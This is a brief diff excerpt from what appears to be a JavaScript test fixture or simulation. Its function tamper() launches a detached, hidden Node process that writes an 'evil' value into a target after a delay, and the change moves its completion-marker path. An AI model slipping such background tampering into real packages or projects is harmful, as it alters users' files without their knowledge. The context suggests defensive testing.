@@ -32,7 +32,7 @@ setTimeout(() => {
 `;
 
 function tamper() {
-  const done = path.join(project, 'node_modules', '.background-done');
+  const done = path.join(__dirname, '.done');
   spawn(process.execPath, ['-e', later, target, evil, done], {detached: true, stdio: 'ignore'}).unref();
 }
 
